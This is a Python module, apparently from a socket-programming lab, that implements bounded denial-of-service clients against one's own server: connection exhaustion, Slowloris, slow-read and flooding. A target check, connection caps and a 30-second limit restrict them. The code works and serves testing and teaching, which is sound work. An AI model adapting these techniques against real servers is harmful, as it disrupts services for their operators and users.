"""Bounded denial-of-service clients for your own server.

    hold_idle    connection exhaustion: many idle connections
    slowloris    many requests that never become whole
    slow_read    slow-read attack: many long replies that are read very slowly
    flood        more bytes than the server can use

Each runs until the event `stop` is set, so that it can be run beside a notebook with
`background.run`, and returns how many connections it made. None connects to another machine (see
`sockets_lab.peers.target`), holds more than `MOST` connections, opens more than `AGAIN` times its
number of connections, or runs longer than `LONGEST_S` seconds.
"""

import socket
from collections.abc import Callable, Iterable, Iterator, Sequence
from contextlib import ExitStack, suppress
from threading import Event
from time import monotonic
from typing import Final

from sockets_lab.peers.targets import target

__all__ = ["AGAIN", "LONGEST_S", "MOST", "flood", "hold_idle", "slow_read", "slowloris"]

MOST: Final = 500
AGAIN: Final = 20
LONGEST_S: Final = 30.0
_CONNECT_S: Final = 0.2
_SMALL_BUFFER: Final = 4096  # the kernel raises it to its minimum


def hold_idle(address: Sequence[object], *, stop: Event, many: int = 100, source: str = "") -> int:
    """Hold `many` connections idle (connection exhaustion); reconnect when one is closed.

    source: the local address, such as "127.0.0.2" (Linux); "" lets the kernel choose
    """
    return _attack(address, lambda sock: iter(()), stop, many, source)


def slowloris(
    address: Sequence[object],
    request: bytes,
    *,
    stop: Event,
    many: int = 100,
    source: str = "",
    pause_s: float = 0.05,
) -> int:
    """Send a request byte by byte, one every `pause_s` seconds, on `many` connections (Slowloris).

    The original tool did so with the headers of an HTTP request.
    """

    def moves(sock: socket.socket) -> Iterator[object]:
        for byte in request:
            yield sock.send(bytes([byte]))

    return _attack(address, moves, stop, many, source, pause_s)


def slow_read(
    address: Sequence[object],
    request: bytes,
    *,
    stop: Event,
    many: int = 100,
    source: str = "",
    pause_s: float = 0.05,
) -> int:
    """Request a long reply and read it byte by byte, on `many` connections (slow-read attack).

    Small receive buffers make the server's sends wait soon.
    """

    def moves(sock: socket.socket) -> Iterator[object]:
        sock.send(request)
        while True:
            yield None
            with suppress(BlockingIOError):
                if not sock.recv(1):
                    return

    return _attack(address, moves, stop, many, source, pause_s)


def flood(
    address: Sequence[object],
    head: bytes,
    *,
    stop: Event,
    many: int = 4,
    source: str = "",
    nbytes: int = 20_000_000,
) -> int:
    """Send `head` and then zeros as fast as possible (flood): `nbytes` on each of `many`."""
    piece = bytes(65_536)

    def moves(sock: socket.socket) -> Iterator[object]:
        sock.send(head)
        left = nbytes
        while left > 0:
            with suppress(BlockingIOError):
                left -= sock.send(piece[:left])
                continue
            yield None
        while True:
            yield None

    return _attack(address, moves, stop, many, source, 0.001)


def _attack(
    address: Sequence[object],
    moves: Callable[[socket.socket], Iterator[object]],
    stop: Event,
    many: int,
    source: str,
    pause_s: float = 0.05,
) -> int:
    """Hold `many` connections, and make the next move of each after each pause."""
    endpoint = target(address)
    if not 1 <= many <= MOST:
        raise ValueError(f"between 1 and {MOST} connections, not {many!r}")
    if endpoint.family == socket.AF_INET6 and source:
        raise ValueError("IPv6 has one loopback address: leave `source` out")
    made, until_s = 0, monotonic() + LONGEST_S
    running: dict[socket.socket, Iterator[object]] = {}
    with ExitStack() as closing:
        closing.callback(_close_all, running)
        while monotonic() < until_s:
            while len(running) < many and made < AGAIN * many and not stop.is_set():
                sock = _connected(address, endpoint.family, source)
                if sock is None:
                    break
                running[sock] = moves(sock)
                made += 1
            for sock in [one for one, steps in running.items() if _has_ended(one, steps)]:
                del running[sock]
                sock.close()
            if stop.wait(pause_s):
                break
    return made


def _close_all(sockets: Iterable[socket.socket]) -> None:
    for sock in sockets:
        sock.close()


def _connected(address: Sequence[object], family: int, source: str) -> socket.socket | None:
    """Connect; return None if the server accepts no client now."""
    sock = socket.socket(family, socket.SOCK_STREAM)
    try:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _SMALL_BUFFER)
        if source:
            sock.bind((source, 0))
        sock.settimeout(_CONNECT_S)
        sock.connect(tuple(address))
        sock.setblocking(False)
    except (ConnectionError, TimeoutError, BlockingIOError):
        sock.close()
        return None
    except BaseException:
        sock.close()
        raise
    return sock


_SILENT = object()


def _has_ended(sock: socket.socket, moves: Iterator[object]) -> bool:
    """Make the next move; return True if the server has ended the connection."""
    try:
        if next(moves, _SILENT) is _SILENT:
            return not sock.recv(1, socket.MSG_PEEK)
    except BlockingIOError:
        return False
    except OSError:
        return True
    return False
